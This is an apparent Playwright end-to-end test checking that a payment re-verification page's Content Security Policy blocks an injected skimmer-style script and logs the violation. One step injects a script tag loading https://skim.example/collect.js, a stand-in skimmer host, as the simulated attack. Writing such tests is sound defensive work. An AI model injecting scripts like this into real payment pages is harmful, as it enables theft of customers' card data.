// The re-verification page takes card numbers: a payment page. In Chromium, a script injected
// into it (as a skimmer would be) is blocked by the page's Content Security Policy, and the
// browser's report reaches the audit log, reduced to the page's route and the blocked origin.
import { expect, test } from "@playwright/test";
import { randomBytes } from "node:crypto";
import { main, sql, tokenize } from "./support";

test("a script injected into a payment page is blocked and reported", async ({ page, request }) => {
  const customer = `cus-csp-${randomBytes(4).toString("hex")}`;
  const pm = await tokenize(request, customer, "4242424242424242");
  const issued = await request.post(`${main.url}/api/v1/payment_methods/${pm}/reverifications`, {
    headers: { Authorization: `Bearer ${process.env.COFFER_E2E_API_KEY}` },
    data: {},
  });
  expect(issued.status()).toBe(201);
  const link = new URL((await issued.json()).url);
  const before = Number(
    sql(main, "SELECT COUNT(*) FROM audit_events WHERE action = 'page.csp_violation'"),
  );

  const response = await page.goto(`${main.url}${link.pathname}?intent=replace`);
  expect(response?.headers()["content-security-policy"]).toContain("script-src 'self'");
  await expect(page.getByText("Secure verification")).toBeVisible();
  await expect(page.getByLabel("Card number")).toHaveCount(1);
  const blocked = page.waitForEvent("console", (m) => m.text().includes("Content Security Policy"));
  await page.evaluate(() => {
    const s = document.createElement("script");
    s.src = "https://skim.example/collect.js";
    document.head.appendChild(s);
  });
  await blocked;

  await expect
    .poll(() =>
      Number(
        sql(main, "SELECT COUNT(*) FROM audit_events WHERE action = 'page.csp_violation'"),
      ),
    )
    .toBe(before + 1);
  const detail = sql(
    main,
    "SELECT resource_id || ' ' || detail FROM audit_events WHERE action = 'page.csp_violation' ORDER BY seq DESC LIMIT 1",
  );
  expect(detail).toContain("/c/reverify");
  expect(detail).toContain("https://skim.example");
  expect(detail).not.toContain(link.pathname.split("/").pop()!);
});
